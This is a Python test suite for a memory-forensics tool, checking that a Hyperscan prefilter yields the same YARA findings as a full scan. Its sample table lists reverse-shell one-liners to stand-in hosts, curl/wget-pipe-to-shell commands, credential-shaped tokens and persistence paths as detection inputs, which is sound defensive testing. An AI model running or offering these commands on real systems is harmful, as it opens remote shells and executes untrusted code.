"""The Hyperscan prefilter: YARA scans only where csi's shipped rules can match, and the
findings are exactly those of a full scan (string by string, on random buffers, and on
every fixture checkpoint)."""

from __future__ import annotations

import json
import random
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from forensics.analysis import prefilter
from forensics.analysis.memscan import MemoryScan, RuleSet, compile_rule_sets, shipped_sources
from forensics.archive.checkpoint import Checkpoint
from forensics.cli.main import main
from tests.conftest import ARCHIVES, LISTENER, archive_path

WALLET = b"4A" + b"9" * 93
# (rule, string) -> texts that string must match; every string of every shipped rule has some
SAMPLES: dict[tuple[str, str], list[bytes]] = {
    ("url", "$u"): [b"http://evil.example.com:8080/x.sh?a=1", b"stratum+tcp://pool.example:4444",
                    b"wss://c2.example/ws", b"ftp://10.0.0.1/", b"https://a.b"],
    ("download_exec", "$a"): [b"curl -s http://x/y.sh | bash", b"wget\t-qO- http://x |sh"],
    ("monero_wallet", "$w"): [b"wallet=" + WALLET, b"--user: " + WALLET, b"-u " + WALLET],
    ("aws_access_key", "$a"): [b"AKIAIOSFODNN7EXAMPLE", b"ASIAABCDEFGHIJKLMNOP"],
    ("github_token", "$a"): [b"ghp_" + b"a1" * 18, b"ghs_" + b"Z" * 36],
    ("slack_token", "$a"): [b"xoxb-1234567890-abcdefghij"],
    ("stripe_key", "$a"): [b"sk_live_4eC39HqLyjWDarjtT1zdp7dc", b"rk_live_0123456789"],
    ("private_key", "$a"): [b"-----BEGIN RSA PRIVATE KEY-----", b"-----BEGIN PRIVATE KEY-----"],
    ("cryptominer_strings", "$stratum"): [b"stratum+tcp://", "stratum+tcp://".encode("utf-16-le")],
    ("cryptominer_strings", "$stratum_ssl"): [b"stratum+ssl://",
                                              "stratum+ssl://".encode("utf-16-le")],
    ("cryptominer_strings", "$xmrig"): [b"xmrig", b"XMRig/6.21"],
    ("cryptominer_strings", "$donate"): [b"--donate-level=1"],
    ("cryptominer_strings", "$algo"): [b"RandomX", b"randomx"],
    ("reverse_shell_strings", "$bash_tcp"): [b"bash -i >& /dev/tcp/10.0.0.1/4444",
                                             b"sh -i >&/dev/tcp/c2.example/53"],
    ("reverse_shell_strings", "$nc_e"): [b"nc 10.0.0.1 4444 -e /bin/sh",
                                         b" ncat -lvp 9 -e /bin/bash"],
    ("reverse_shell_strings", "$socat"): [b"SOCAT tcp:1.2.3.4:5 EXEC:'/bin/bash'",
                                          b"socat - exec:sh"],
    ("reverse_shell_strings", "$py_pty"): [b'import pty;pty.spawn("/bin/sh")'],
    ("download_and_execute", "$curl_sh"): [b"curl http://x/a.sh | sh", b"curl -fsSL u |  bash"],
    ("download_and_execute", "$wget_sh"): [b"wget -O - http://x | bash"],
    ("linux_persistence_paths", "$preload"): [b"/etc/ld.so.preload"],
    ("linux_persistence_paths", "$cron"): [b"/etc/cron.d/backdoor"],
    ("linux_persistence_paths", "$spool"): [b"/var/spool/cron/root"],
    ("linux_persistence_paths", "$keys"): [b"/root/.ssh/authorized_keys"],
}


@pytest.fixture(scope="module")
def shipped() -> RuleSet:
    rule_set = compile_rule_sets([])[0]
    assert rule_set.prefilter is not None
    return rule_set


def _rules_in(path: str) -> dict[str, tuple[list[str], str]]:
    """rule name -> (its string identifiers, its condition), read from the rule file."""
    text = Path(path).read_text()
    out = {}
    for name, body in re.findall(r"^rule (\w+)\s*\{(.*?)^\}", text, re.S | re.M):
        strings = re.findall(r"^\s*(\$\w+)\s*=", body, re.M)
        condition = body.split("condition:")[1].strip()
        out[name] = (strings, condition)
    return out


def _matches(rule_set: RuleSet, data: bytes, *, full: bool) -> set[tuple[str, str, int, bytes]]:
    view = memoryview(bytearray(data))
    parts = ([(0, rule_set.rules.match(data=view))] if full else rule_set.match(view))
    return {(m.rule, s.identifier, base + i.offset, bytes(i.matched_data))
            for base, found in parts for m in found for s in m.strings for i in s.instances}


def test_every_shipped_rule_is_gated_by_its_strings_and_every_string_has_samples() -> None:
    # the prefilter is exact only for rules whose condition is met through their strings
    seen = set()
    for path in shipped_sources().values():
        for rule, (strings, condition) in _rules_in(path).items():
            assert condition == "any of them", rule
            for string in strings:
                assert SAMPLES.get((rule, string)), f"no sample for {rule} {string}"
                seen.add((rule, string))
    assert seen == set(SAMPLES)


@pytest.mark.parametrize("key", sorted(SAMPLES), ids=lambda k: f"{k[0]}{k[1]}")
def test_each_string_is_found_through_the_prefilter(key: tuple[str, str],
                                                    shipped: RuleSet) -> None:
    noise = random.Random(7).randbytes(64 << 10)
    for sample in SAMPLES[key]:
        data = noise + sample + noise
        full = _matches(shipped, data, full=True)
        assert (key[0], key[1]) in {(rule, ident) for rule, ident, _, _ in full}
        assert shipped.prefilter is not None
        windows = shipped.prefilter.windows(memoryview(bytearray(data)))
        assert windows is not None and sum(e - s for s, e in windows) < len(data) / 4
        assert _matches(shipped, data, full=False) == full


NOISE = st.binary(min_size=0, max_size=3000) | st.sampled_from(
    [b"", b" ", b"\x00" * 700, b"INFO worker-03 share accepted seq=1 " * 40])


@settings(max_examples=300, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(st.lists(st.tuples(NOISE, st.sampled_from(sorted(SAMPLES))), max_size=8), NOISE)
def test_prefiltered_scan_equals_full_scan_on_random_buffers(
        parts: list[tuple[bytes, tuple[str, str]]], tail: bytes) -> None:
    rule_set = compile_rule_sets([])[0]
    data = b"".join(noise + SAMPLES[key][len(noise) % len(SAMPLES[key])]
                    for noise, key in parts) + tail
    assert _matches(rule_set, data, full=False) == _matches(rule_set, data, full=True)


def test_dense_hits_fall_back_to_a_full_scan(shipped: RuleSet) -> None:
    data = b"see ftp://x.example/ " * (prefilter.MAX_HITS + 10)
    assert shipped.prefilter is not None
    assert shipped.prefilter.windows(memoryview(bytearray(data))) is None
    parts = shipped.match(memoryview(bytearray(data)))
    assert [offset for offset, _ in parts] == [0]  # one part: the whole buffer
    assert _matches(shipped, data, full=False) == _matches(shipped, data, full=True)
    assert len({m for m in _matches(shipped, data, full=True) if m[0] == "url"}) == \
        prefilter.MAX_HITS + 10


@pytest.mark.parametrize("archive", ARCHIVES)
def test_prefiltered_scan_equals_full_scan_on_every_fixture(archive: str) -> None:
    def key(hit: Any) -> tuple[Any, ...]:
        return (hit.namespace, hit.rule, hit.identifier, hit.pid or -1, hit.address or -1,
                hit.path or "", hit.offset or -1, hit.data)

    with Checkpoint(archive_path(archive)) as ckpt:
        full = MemoryScan.run(ckpt, prefilter=False)
        fast = MemoryScan.run(ckpt)
    assert sorted(fast.hits, key=key) == sorted(full.hits, key=key)
    assert (fast.errors, fast.truncated, fast.bytes_scanned) == \
        (full.errors, full.truncated, full.bytes_scanned)


def test_user_rules_without_a_prefilter_are_scanned_in_full(tmp_path: Path) -> None:
    plain = tmp_path / "plain.yar"
    plain.write_text('rule mine { strings: $a = "ctl.sock" condition: $a }')
    gated = tmp_path / "gated.yar"
    gated.write_text('rule mine { meta: csi_prefilter = "ctl\\\\.sock" '
                     'strings: $a = "ctl.sock" condition: $a }')
    shipped_set, user = compile_rule_sets([str(plain)])
    assert shipped_set.prefilter is not None and user.prefilter is None
    _, user = compile_rule_sets([str(gated)])
    assert user.prefilter is not None and user.prefilter.expressions == ["ctl\\.sock"]
    data = bytearray(random.Random(1).randbytes(50_000) + b"/run/ctl.sock")
    assert _matches(user, bytes(data), full=False) == _matches(user, bytes(data), full=True)


def test_a_prefilter_that_does_not_compile_is_one_error_line(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rules = tmp_path / "bad.yar"
    rules.write_text('rule mine { meta: csi_prefilter = "(unclosed" '
                     'strings: $a = "x" condition: $a }')
    assert main(["analyze", "--yara", str(rules), archive_path(LISTENER)]) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1
    assert err.startswith("csi: error: YARA rules declare a prefilter that does not compile")


def test_analyze_json_is_the_same_with_and_without_the_prefilter(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from tests.conftest import SHOP

    def report() -> dict[str, Any]:
        assert main(["analyze", "--format", "json", archive_path(SHOP)]) == 0
        doc = json.loads(capsys.readouterr().out)
        for run in doc["analyzers"]:
            run.pop("seconds")
        return doc

    fast = report()
    monkeypatch.setattr(prefilter, "HAVE_HYPERSCAN", False)  # as on a platform without it
    assert report() == fast
